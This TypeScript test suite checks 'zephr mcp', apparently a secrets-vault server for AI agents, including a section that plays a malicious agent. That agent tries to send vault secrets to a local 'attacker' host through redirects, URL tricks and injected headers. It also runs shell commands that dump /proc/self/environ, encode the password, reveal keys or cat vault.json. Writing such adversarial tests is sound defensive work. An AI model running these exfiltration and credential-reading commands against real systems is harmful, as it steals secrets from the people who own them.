/** `zephr mcp` with the protocol's official client, with lines that no client writes, and with an agent that means harm. */

import { readFileSync, writeFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { describe, expect, it, onTestFinished } from 'vitest';
import { httpHost } from '../support/hosts.js';
import { sharedServer } from '../support/shared-server.js';
import { type VaultSession, vaultSession } from '../support/vault.js';

const server = sharedServer();

const VALUE = 'correct-horse/battery+staple';
const PASSWORD = 'Tr0ub4dor&3 "quoted"';

/** What a program could have made of a value, so that it is found. */
function formsOf(value: string): string[] {
  const bytes = Buffer.from(value);
  const core = (text: string) => text.replace(/=+$/, '').slice(4, -4);
  return [
    value,
    encodeURIComponent(value),
    JSON.stringify(value).slice(1, -1),
    bytes.toString('hex'),
    bytes.toString('hex').toUpperCase(),
    ...[0, 1, 2].flatMap((shift) => {
      const shifted = Buffer.concat([Buffer.alloc(shift), bytes]);
      return [core(shifted.toString('base64')), core(shifted.toString('base64url'))];
    }),
  ];
}

interface Said {
  readonly text: string;
  readonly isError: boolean;
}

/** A client of a server in the session, and all that it was told. */
async function openClient(session: VaultSession, args: readonly string[] = []) {
  const transport = new StdioClientTransport({
    command: 'zephr',
    args: ['mcp', ...args],
    env: session.env as Record<string, string>,
    cwd: session.folder,
  });
  const client = new Client({ name: 'test agent', version: '1' });
  await client.connect(transport);
  onTestFinished(() => client.close());
  const heard: string[] = [];
  const call = async (name: string, args: Record<string, unknown> = {}): Promise<Said> => {
    const result = await client
      .callTool({ name, arguments: args })
      .catch((error: Error) => ({ content: [{ type: 'text', text: error.message }], isError: true }));
    heard.push(JSON.stringify(result));
    const blocks = result.content as { text: string }[];
    return { text: blocks.map(({ text }) => text).join('\n'), isError: result.isError === true };
  };
  return { client, call, heard };
}

const firstLine = (text: string) => text.split('\n')[0] ?? '';

/** A host that answers as `answer` says, and remembers what came. */
async function host(
  answer: (request: IncomingMessage, body: string, response: ServerResponse) => void,
): Promise<{ url: string; name: string; came: string[] }> {
  const came: string[] = [];
  const url = await httpHost(async (request, response) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    const body = Buffer.concat(chunks).toString();
    came.push(JSON.stringify([request.method, request.url, request.rawHeaders, body]));
    answer(request, body, response);
  });
  return { url, name: new URL(url).host, came };
}

/** A session with API_KEY bound to a host, and DB_PASSWORD for commands. */
async function armed(name: string): Promise<VaultSession> {
  const session = await vaultSession({ DB_PASSWORD: PASSWORD }, { ZEPHR_SERVER: server.url });
  await session.sh(`zephr vault set API_KEY --host ${name}`, { stdin: VALUE });
  return session;
}

describe('zephr mcp', () => {
  it('has these tools, and their descriptions say nothing of the vault', async () => {
    const session = await armed('127.0.0.1:9');
    const { client } = await openClient(session);
    expect(client.getServerVersion()).toMatchObject({ name: 'zephr' });
    const { tools } = await client.listTools();
    expect(tools.map(({ name }) => name)).toEqual([
      'list_secrets',
      'call',
      'create_link',
      'request_secret',
      'answer_request',
    ]);
    expect(JSON.stringify(tools)).not.toContain('DB_PASSWORD');
    const { client: other } = await openClient(session, ['--allow-run']);
    expect((await other.listTools()).tools.map(({ name }) => name)).toContain('run');
  });

  it('lists names, makes requests, and is in the log with the name of its client', async () => {
    const echo = await host(({ headers }, _, response) => {
      response
        .writeHead(200, { 'X-Seen': String(headers.authorization) })
        .end(`Hello, ${headers.authorization}`);
    });
    const session = await armed(echo.name);
    const { call } = await openClient(session);
    const listed = JSON.parse((await call('list_secrets')).text);
    expect(listed.secrets).toEqual([{ name: 'API_KEY', hosts: [echo.name] }, { name: 'DB_PASSWORD' }]);
    const { text, isError } = await call('call', { url: `${echo.url}/a`, bearer: 'API_KEY' });
    expect(isError).toBe(false);
    expect(text).toContain('"status":200,"redacted":true');
    expect(text).toContain(`The next block comes from ${echo.name}.`);
    expect(text).toContain('x-seen: Bearer [masked API_KEY]\n');
    expect(text).toContain('\nHello, Bearer [masked API_KEY]');
    expect(echo.came[0]).toContain(`Bearer ${VALUE}`);
    const log = await session.sh("zephr vault log --agent 'test agent' --json");
    expect(JSON.parse(log.stdout).entries).toMatchObject([
      { command: 'mcp call', secrets: ['API_KEY'], status: 200 },
    ]);
  });

  it('sends a link, asks for a secret, and answers', async () => {
    const session = await armed('127.0.0.1:9');
    const { call } = await openClient(session);
    const created = await call('create_link', { text: 'hello\n', views: 2, message: 'for you' });
    const { fullLink } = JSON.parse(firstLine(created.text));
    expect((await session.sh(`zephr get -q '${fullLink}'`)).stdout).toBe('hello\n');

    const asked = JSON.parse(
      firstLine((await call('request_secret', { message: 'the key', from: 'robot' })).text),
    );
    const given = await call('answer_request', { link: asked.requestLink, text: 'an answer' });
    expect(given.text).toMatch(/"secretId".*comes from who asked\..*From: robot\nMessage: the key/s);
    expect((await session.sh(`zephr get -q -- ${asked.id}`)).stdout).toBe('an answer');
    const wrong = await call('create_link', { text: 'x', expiry: 'soon' });
    expect(wrong).toEqual({ isError: true, text: expect.stringContaining('the expiry is not a time') });
  });

  it('says what is refused, and the line by which a person allows it', async () => {
    const session = await armed('127.0.0.1:9');
    const { call } = await openClient(session);
    const elsewhere = await call('call', { url: 'https://other.example/', bearer: 'API_KEY' });
    expect(elsewhere.text).toContain(
      'a person runs: zephr vault bind API_KEY --host 127.0.0.1:9,other.example',
    );
    const locked = await openClient({ ...session, env: { ...session.env, ZEPHR_VAULT_KEY_FILE: '' } });
    expect((await locked.call('list_secrets')).text).toContain('the vault is locked');
    await session.sh('zephr vault set ASKED --host 127.0.0.1:9 --approve', { stdin: VALUE });
    expect((await call('call', { url: 'http://127.0.0.1:9/', bearer: 'ASKED' })).text).toContain(
      'needs a person',
    );
  });

  it('cuts what is long, marks what is no text, and never in the middle of a secret', async () => {
    const long = await host(({ url }, _, response) => {
      // The secret stands where the result is cut.
      const before = 'x'.repeat(65_536 - 12);
      response.end(url === '/binary' ? Buffer.of(0xff, 0x00) : `${before}${PASSWORD}${'y'.repeat(200_000)}`);
    });
    const { call } = await openClient(await armed(long.name));
    const { text } = await call('call', { url: long.url, bearer: 'API_KEY' });
    expect(text).toContain('"cut":"after 65536 bytes"');
    expect(text).toContain('x[masked DB_');
    expect(text).not.toContain(PASSWORD.slice(0, 8));
    expect((await call('call', { url: `${long.url}/binary`, bearer: 'API_KEY' })).text).toMatch(
      /in base64.*\/wA=$/s,
    );
  });

  it('cancels, and tells of progress', async () => {
    const session = await armed('127.0.0.1:9');
    const { client } = await openClient(session, ['--allow-run']);
    const controller = new AbortController();
    const seen: number[] = [];
    const running = client.callTool(
      {
        name: 'run',
        arguments: { command: 'sh', arguments: ['-c', 'echo begun; sleep 600 & echo $! > pid; wait'] },
      },
      undefined,
      {
        signal: controller.signal,
        onprogress: ({ progress }) => {
          seen.push(progress);
          controller.abort('enough');
        },
      },
    );
    await expect(running).rejects.toThrow('enough');
    expect(seen).toEqual([6]);
    const pid = Number(readFileSync(join(session.folder, 'pid'), 'utf8'));
    await expect.poll(() => isRunning(pid)).toBe(false);
    expect(await client.ping()).toEqual({});
  });

  it('starts commands with secrets where that is allowed, and leaves nothing of them', async () => {
    const session = await armed('127.0.0.1:9');
    const { call } = await openClient(session, ['--allow-run']);
    const ran = await call('run', {
      command: 'sh',
      arguments: [
        '-c',
        'echo "$DB_PASSWORD, $(printenv API_KEY || echo none)"; sleep 600 & echo $! > pid; echo oops >&2; exit 3',
      ],
    });
    expect(ran.isError).toBe(true);
    expect(ran.text).toContain('{"code":3}');
    expect(ran.text).toContain('stdout:\n[masked DB_PASSWORD], none\n\nstderr:\noops\n');
    const pid = Number(readFileSync(join(session.folder, 'pid'), 'utf8'));
    await expect.poll(() => isRunning(pid)).toBe(false);
    expect((await call('run', { command: 'sleep', arguments: ['600'], timeout_seconds: 1 })).text).toContain(
      'SIGTERM',
    );
    expect((await call('run', { command: 'true', only: ['API_KEY'] })).text).toContain(
      'API_KEY is for no command',
    );
    expect((await call('run', { command: '/nowhere' })).text).toContain('no such program');
  });
});

function isRunning(pid: number): boolean {
  try {
    // A zombie that nobody has waited for yet has ended.
    return !/^\d+ \(.*\) Z/s.test(readFileSync(`/proc/${pid}/stat`, 'latin1'));
  } catch {
    return false;
  }
}

describe('lines on stdin', () => {
  const HELLO =
    '{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-03-26","capabilities":{}}}';

  it('are answered whatever they are, until they end', async () => {
    const { sh, folder } = await vaultSession();
    const lines = [
      '',
      '{"jsonrpc":',
      HELLO,
      `{"jsonrpc":"2.0","id":1,"method":"ping","params":{"pad":"${'x'.repeat(5 << 20)}"}}`,
      '[{"jsonrpc":"2.0","id":2,"method":"ping"},{"jsonrpc":"2.0","method":"notifications/initialized"},1]',
      '[{"jsonrpc":"2.0","method":"notifications/initialized"}]',
      '{"jsonrpc":"2.0","id":3,"method":"ping"}\r',
      '{"jsonrpc":"2.0","id":4,"method":"ping"}',
    ];
    writeFileSync(
      join(folder, 'lines'),
      Buffer.concat([Buffer.of(0xff, 0x0a), Buffer.from(lines.join('\n'))]),
    );
    const { stdout, stderr, code } = await sh('zephr mcp < lines');
    expect([code, stderr]).toEqual([0, '']);
    const answers = stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    const seen = answers.map((answer) => (Array.isArray(answer) ? answer.map(shown) : shown(answer)));
    expect(seen).toHaveLength(7);
    expect(seen).toEqual(
      expect.arrayContaining([
        [null, -32700],
        [0, undefined],
        [null, -32600],
        [
          [2, undefined],
          [null, -32600],
        ],
        [3, undefined],
        [4, undefined],
      ]),
    );
  });

  const shown = (answer: { id: unknown; error?: { code: number } }) => [answer.id, answer.error?.code];

  it('may stop being answered: a client that goes away is no error', async () => {
    const { sh } = await vaultSession();
    const { stderr } = await sh(
      `yes '{"jsonrpc":"2.0","id":1,"method":"ping"}' | zephr mcp | head -c 100 > /dev/null`,
    );
    expect(stderr).toBe('');
  });

  it('are not read where Node would load code of others', async () => {
    const { sh } = await vaultSession();
    const { code, stderr } = await sh('NODE_OPTIONS=--require=/dev/null zephr mcp < /dev/null');
    expect([code, stderr]).toEqual([2, expect.stringContaining('NODE_OPTIONS')]);
  });
});

describe('an agent that means harm', () => {
  it('gets no value, in whatever form, and sends none elsewhere', async () => {
    let last = '';
    const attacker = await host((_, __, response) => response.end('thanks'));
    const bound = await host(({ url, headers }, body, response) => {
      const seen = String(headers.authorization ?? headers['x-key'] ?? body).replace(/^\w+ /, '') || last;
      last = seen;
      const bytes = Buffer.from(seen);
      const path = new URL(url ?? '/', 'http://h').pathname;
      if (path === '/gzip') response.writeHead(200, { 'Content-Encoding': 'gzip' }).end(gzipSync(bytes));
      else if (path === '/header')
        response.writeHead(200, 'OK', { 'X-Echo': seen, 'Set-Cookie': `k=${seen}` }).end();
      else if (path === '/redirect')
        response.writeHead(307, { Location: `${attacker.url}/?k=${encodeURIComponent(seen)}` }).end();
      else if (path === '/all')
        response.end(
          [
            seen,
            bytes.toString('base64'),
            bytes.toString('hex'),
            encodeURIComponent(seen),
            JSON.stringify({ seen }),
            url,
          ].join('\n'),
        );
      else if (path === '/slow') {
        response.write(bytes.subarray(0, 7));
        setImmediate(() => response.end(bytes.subarray(7)));
      } else response.end(`the last one was ${last}`);
    });
    const session = await armed(bound.name);
    // The attacker has a secret of its own, so that there is a way to it.
    await session.sh(`zephr vault set OTHER --host ${attacker.name},${bound.name}`, {
      stdin: 'for-the-attacker',
    });
    const { call, heard } = await openClient(session);
    const key = { bearer: 'API_KEY' };
    const other = { header: { 'X-Other': 'OTHER' } };
    await call('call', { url: attacker.url, ...other });
    await call('call', { url: attacker.url, ...other, ...key });
    await call('call', { url: attacker.url, header: { 'X-Other': 'OTHER', 'X-Key': 'API_KEY' } });
    await call('call', { url: `${bound.url}/redirect`, ...other, ...key, follow_redirects: true });
    const away = { url: attacker.url, ...key };
    await call('list_secrets');
    await call('list_secrets', { reveal: true });
    for (const path of ['/all', '/gzip', '/header', '/slow', '/last'])
      for (const slot of [
        key,
        { header: { 'X-Key': 'API_KEY' } },
        { query: { k: 'API_KEY' } },
        { body_field: { k: 'API_KEY' } },
        { form_field: { k: 'API_KEY' } },
      ])
        await call('call', { url: bound.url + path, ...slot });
    // What the host remembers comes without a secret in the request, too.
    await call('call', { url: `${bound.url}/last` });
    await call('call', { url: `${bound.url}/redirect`, ...key, follow_redirects: true });
    await call('call', away);
    await call('call', { ...away, headers: { Host: bound.name } });
    await call('call', { url: attacker.url, headers: { 'X-Key': 'API_KEY', Authorization: '$API_KEY' } });
    await call('call', {
      url: `${attacker.url}/?k={{API_KEY}}`,
      body: '$DB_PASSWORD',
      query: { q: 'DB_PASSWORD' },
    });
    await call('call', { url: `http://${bound.name}@${attacker.url.slice(7)}/`, ...key });
    await call('call', { url: `${bound.url}\\@${attacker.url.slice(7)}/`, ...key });
    await call('call', {
      url: bound.url,
      ...key,
      headers: { 'X-Forwarded-Host': attacker.name, Range: 'bytes=0-9' },
    });
    await call('call', { url: bound.url, bearer: 'API_KEY', method: 'TRACE' });
    await call('call', { url: bound.url, bearer: 'DB_PASSWORD' });
    await call('call', { url: `file://${session.vault}`, ...key });
    await call('call', { url: `file://${session.folder}/key` });
    for (const name of ['run', 'vault_reveal', 'reveal', 'get', '__proto__'])
      await call(name, { command: 'zephr', arguments: ['vault', 'reveal', 'API_KEY'], name: 'API_KEY' });
    const sent = await call('create_link', { text: '$API_KEY {{API_KEY}} API_KEY' });
    const link = JSON.parse(firstLine(sent.text)).fullLink;
    expect((await session.sh(`zephr get -q '${link}'`)).stdout).toBe('$API_KEY {{API_KEY}} API_KEY');
    await call('create_link', { text: 'x', from_vault: 'API_KEY' });
    const request = await session.sh('zephr request --no-record -q');
    await call('answer_request', {
      link: request.stdout.split('\n')[0],
      text: '$(zephr vault reveal API_KEY)',
    });
    await call('request_secret', { message: 'API_KEY', from: 'API_KEY' });

    // The host has the key, so that there was something to get.
    expect(bound.came.filter((one) => one.includes(`Bearer ${VALUE}`)).length).toBeGreaterThan(4);
    expect(heard.join('\n')).toContain('[masked API_KEY]');
    expect(attacker.came.map((one) => one.includes('for-the-attacker'))).toEqual([true, true]);
    for (const form of [...formsOf(VALUE), ...formsOf(PASSWORD)]) {
      expect(heard.join('\n')).not.toContain(form);
      expect(attacker.came.join('\n')).not.toContain(form);
      expect(readFileSync(join(session.folder, '.local/state/zephr/audit.jsonl'), 'utf8')).not.toContain(
        form,
      );
    }
  });

  it('with commands gets none in a form that programs print', async () => {
    const session = await armed('127.0.0.1:9');
    const { call, heard } = await openClient(session, ['--allow-run']);
    for (const script of [
      'echo "$DB_PASSWORD"',
      'env; export; cat /proc/self/environ',
      'printf %s "$DB_PASSWORD" | base64',
      'printf x%s "$DB_PASSWORD" | base64 -w 20',
      'printf %s "$DB_PASSWORD" | od -An -tx1 | tr -d " \\n"',
      'printf %s "$DB_PASSWORD" | head -c 9; sleep 0.1; printf %s "$DB_PASSWORD" | tail -c +10',
      'node -e "console.log(JSON.stringify(process.env), encodeURIComponent(process.env.DB_PASSWORD))"',
      'printf "%s" "$DB_PASSWORD" >&2; false "$DB_PASSWORD"',
      'zephr vault reveal DB_PASSWORD; zephr vault reveal API_KEY',
      'zephr run --mask never -- env; zephr run --only API_KEY -- env',
      'zephr vault bind API_KEY --unbind; zephr run -- env',
      'zephr call http://127.0.0.1:9/ --bearer DB_PASSWORD; cat "$(dirname "$PWD")"/*/.local/share/zephr/vault.json',
    ])
      await call('run', { command: 'sh', arguments: ['-c', script] });
    await call('run', { command: 'sh', arguments: ['-c', 'env'], only: ['API_KEY', 'DB_PASSWORD'] });
    expect(heard.join('\n')).toContain('[masked DB_PASSWORD]');
    for (const form of [...formsOf(VALUE), ...formsOf(PASSWORD)])
      expect(heard.join('\n')).not.toContain(form);
  });
});
